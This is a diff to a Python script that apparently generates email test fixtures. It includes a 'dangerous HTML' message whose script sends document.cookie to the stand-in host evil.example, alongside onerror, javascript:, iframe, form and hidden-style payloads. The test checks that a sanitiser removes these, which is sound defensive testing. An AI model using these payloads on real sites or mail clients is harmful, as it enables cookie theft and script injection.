@@ -265,11 +265,11 @@ add(f"{n:02d}_outlook_related_inline_image", mail(h, body, b"\r\n"), from_addr="
     html=True, quoted=True, inline=["image001.png"])
 
 n += 1
-evil = """<html><body onload="steal()"><p>Добрый день! {p}</p>
+evil = f"""<html><body onload="steal()"><p>Добрый день! {PROBE_3}</p>
 <script>document.location='http://evil.example/?c='+document.cookie</script>
 <img src=x onerror="alert(1)"><a href="javascript:alert(2)">ссылка</a>
 <iframe src="http://evil.example/"></iframe><form action="http://evil.example/"><input name=p></form>
-<style>body{{display:none}}</style><p style="position:fixed;top:0">Спасибо.</p></body></html>""".format(p=PROBE_3)
+<style>body{{display:none}}</style><p style="position:fixed;top:0">Спасибо.</p></body></html>"""
 h = common(n, "user@gmail.com", "Evil HTML", "Thu, 05 Mar 2026 07:15:00 +0000") + text_ct("utf-8", "8bit", "html")
 add(f"{n:02d}_dangerous_html", mail(h, evil.encode()), from_addr="user@gmail.com", subject="Evil HTML",
     probe=PROBE_3, utc_offset=0, language="ru", html=True, html_absent=["<script", "onerror", "javascript:", "onload", "<iframe", "<form", "style="],
@@ -454,7 +454,7 @@ LOG = "\r\n".join(f"2026-03-05 09:00:{s:02d}.000 [ERROR] Сервер: нет о
 
 
 def with_attachments(i: int, parts: list[bytes], subject: str = "Файлы настроек") -> bytes:
-    b = "==boundary_att_%d==" % i
+    b = f"==boundary_att_{i}=="
     body = f"--{b}\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n".encode()
     body += ("Добрый день!\n\n" + PROBE_4 + "\nПрикладываю файл настроек и лог.\n").encode() + b"\n"
     for p in parts:
